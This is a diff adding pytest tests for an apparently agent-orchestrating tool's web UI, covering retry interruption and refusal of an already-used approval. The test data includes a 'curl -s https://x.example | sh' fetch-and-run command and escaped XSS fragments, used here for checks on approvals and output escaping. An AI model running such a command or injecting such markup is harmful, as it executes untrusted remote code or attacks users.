@@ -186,3 +186,36 @@ def test_what_agents_wrote_is_shown_as_text_never_as_markup(plan) -> None:
             assert code == 200
             assert "<img" not in body and "<script>alert" not in body, path
             assert "&lt;img src=x onerror=" in body, path
+
+
+def test_stopping_it_stops_a_retry_it_started_as_ctrl_c_would(tmp_path: Path) -> None:
+    repo = make_repo(tmp_path / "repo")
+    paths, _ = make_plan(repo, [worker("W1", steps=[{"sleep": 60, "write": {"src/done.txt": "x"}}])])
+    with running_ui(repo) as ui:
+        assert said(ui, {"path": "/act/retry", "worker": "W1"}) == "started: boss retry W1 --plan p"
+        deadline = time.monotonic() + 60
+        while time.monotonic() < deadline:
+            status = st.read(paths.status("W1"))
+            if status and status.state == st.RUNNING and status.iteration:
+                break
+            time.sleep(0.1)
+        else:
+            raise AssertionError("the retry did not start its agent")
+        code, body = http(f"{ui.base}/job/1?token={ui.token}")
+        assert code == 200 and "boss retry W1 --plan p" in body and ">running<" in body
+        ui.stop()
+    status = st.read(paths.status("W1"))
+    assert status.state == st.FAILED and "interrupted" in status.reason, status
+    # Nothing is lost: the CLI reads the same record, and its worktree is kept for the next run.
+    assert '"state": "FAILED"' in boss("status", "p", "--json", cwd=repo).stdout
+    assert (paths.worktree("W1") / ".git").exists()
+
+
+def test_an_approval_used_meanwhile_is_refused_as_the_cli_refuses_it(plan) -> None:
+    repo, paths = plan
+    ap.decide(paths.approvals_dir, "R1", approve=True)
+    assert ap.consume(paths.approvals_dir, "W1", "curl -s https://x.example | sh") is not None
+    with running_ui(repo) as ui:
+        text = said(ui, {"path": "/act/deny", "id": "R1"})
+    cli = boss("deny", "R1", "--plan", "p", cwd=repo, check=2).stderr.strip()
+    assert text == cli and "request R1 was already used at" in text, (text, cli)
